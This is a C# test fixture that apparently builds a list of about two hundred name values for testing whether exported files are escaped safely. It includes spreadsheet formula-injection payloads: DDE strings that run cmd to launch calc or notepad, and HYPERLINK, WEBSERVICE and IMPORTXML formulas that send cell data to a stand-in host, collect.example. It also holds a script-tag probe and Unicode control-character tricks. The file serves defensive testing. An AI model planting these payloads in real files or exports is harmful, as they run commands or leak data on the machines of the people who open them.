namespace Homeward.Tests.Outputs;

/// <summary>Two hundred texts that somebody could give as a name so that whoever opens the file runs, sends or misreads something.</summary>
internal static class Payloads
{
    private static readonly string[] Beginnings =
        ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\v", "\f", "\u0085", "\u00a0", "\u2028", "\u200b", "\ufeff", "\u202e", "\u2066", "\u0301", "＝", "＋", "－", "＠", "﹦", "'", "\"", " "];

    private static readonly string[] Bodies =
    [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://collect.example/?x=\"&A1,\"Nadia\")", "+1-601-555-0123", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=WEBSERVICE(\"http://collect.example/\"&A2)",
    ];

    private static readonly string[] Others =
    [
        "=1+1", "=1+1\";=1+1", "\"=1+1\"", "'=1+1", "''=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(\"http://collect.example\",\"//a\")", "=IMPORTDATA(\"http://collect.example\")",
        "+", "-", "=", "@", "\t", "\r", "\n", "\r\n=1", "Nadia\n=1+1", "Nadia\r\n=1+1\r\n", "Nadia,=1+1", "Nadia\",\"=1+1", "Nadia;=1+1", "Nadia\t=1+1", "\"", "\"\"", "\",\"", "a,b;c\td",
        "\ud800", "Nadia\udc00", "\0=1", "Nadia\0", "\u001b[31mNadia", "\u202e=1+1", "Nadia\u202elas", "\u2067Nadia\u2069", "_x003D_1+1", "_x0000_", "&#61;1+1", "&=1+1", "<script>alert(1)</script>",
        "<c><f>1+1</f></c>", "]]>", "&amp;", "\ufffe", "\uffff", "١٢٣", "نادية", "Nadia \ud83d\ude00", "\ud83d\ude00=1", "\u00ad=1+1",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. from beginning in Beginnings from body in Bodies select beginning + body,
        .. Others,
    ];
}
